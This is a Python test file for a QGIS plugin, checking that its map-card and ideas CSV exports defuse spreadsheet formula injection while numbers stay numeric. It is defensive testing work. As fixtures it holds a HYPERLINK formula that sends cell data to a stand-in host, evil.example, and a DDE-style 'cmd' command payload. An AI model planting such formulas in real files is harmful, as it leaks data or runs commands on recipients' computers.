"""Item 13: a value a spreadsheet would run (=, +, -, @, tab, CR first) is written as text in the card's and the
ideas' CSV exports; plain numbers stay numbers. The card comes from a real GeoPackage whose street name is a formula."""

from __future__ import annotations

import csv
import shutil

from qgis.core import QgsCoordinateReferenceSystem, QgsVectorLayer
from qgis.gui import QgsMessageBar

from demo import KNOWN_CASES
from digiresan_plugin.core.csv_safe import spreadsheet_safe
from digiresan_plugin.core.ideas.export import write_csv
from digiresan_plugin.core.ideas.model import Idea
from digiresan_plugin.core.identify import TwinEngine
from digiresan_plugin.core.layers import twin_layer
from digiresan_plugin.core.loader import TwinLoader
from digiresan_plugin.core.twin_source import TwinSource
from tests.conftest import TODAY

from .pg_faults import case_points

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Klicka")'


def test_the_rule_by_hand():
    assert [spreadsheet_safe(v) for v in ("=1+1", "+46 70", "-2+3", "@SUM(A1)", "\tx", "\rx", "Storgatan")] == [
        "'=1+1", "'+46 70", "'-2+3", "'@SUM(A1)", "'\tx", "'\rx", "Storgatan"]
    assert [spreadsheet_safe(v) for v in ("-12", "+3.5", "-0,5", "1e-3", -4.0, None)] == [
        "-12", "+3.5", "-0,5", "1e-3", -4.0, None]


def test_card_csv_export_neutralises_a_formula(project, catalog, demo_twin, tmp_path):
    from digiresan_plugin.gui.card.dock import TwinCardDock

    twin = tmp_path / "twin.gpkg"
    shutil.copy(demo_twin, twin)
    segment = KNOWN_CASES["moratorium_conflict"]["segment_id"]
    roads = QgsVectorLayer(f"{twin}|layername=road_segments", "roads", "ogr")
    fid = next(roads.getFeatures(f"\"segment_id\" = '{segment}'")).id()
    assert roads.dataProvider().changeAttributeValues({fid: {roads.fields().indexOf("street_name"): FORMULA}})
    del roads
    assert TwinLoader(catalog, project, "en").load(TwinSource.geopackage(twin)).problems == []
    engine = TwinEngine(catalog, lambda lid: twin_layer(project, lid), today=TODAY, language="en")
    report = engine.report_at_point(case_points(project)[0], QgsCoordinateReferenceSystem("EPSG:3006"), 2.0)
    assert report.subject.key == segment
    dock = TwinCardDock(None, message_bar=QgsMessageBar())
    try:
        dock.show_report(report)
        dock.export_csv(tmp_path / "card.csv")
    finally:
        dock.cleanup()
    rows = list(csv.reader((tmp_path / "card.csv").open(encoding="utf-8-sig")))
    cells = [cell for row in rows for cell in row]
    assert "'" + FORMULA in cells and FORMULA not in cells


def test_ideas_csv_export_neutralises_formulas(tmp_path):
    ideas = [Idea(1, "=cmd|'/c calc'!A1", "@SUM(1+1)", theme="-2+3", granted_sek=-5.0, decision_text="+46 70 123"),
             Idea(2, "DR-2", "Vanlig titel", estimated_cost_sek=1200.0)]
    write_csv(tmp_path / "ideas.csv", ideas)
    rows = list(csv.DictReader((tmp_path / "ideas.csv").open(encoding="utf-8-sig")))
    assert rows[0]["reference"] == "'=cmd|'/c calc'!A1" and rows[0]["title"] == "'@SUM(1+1)"
    assert rows[0]["theme"] == "'-2+3" and rows[0]["decision_text"] == "'+46 70 123"
    assert rows[0]["granted_sek"] == "-5"  # a number stays a number
    assert rows[1]["title"] == "Vanlig titel" and rows[1]["estimated_cost_sek"] == "1200"
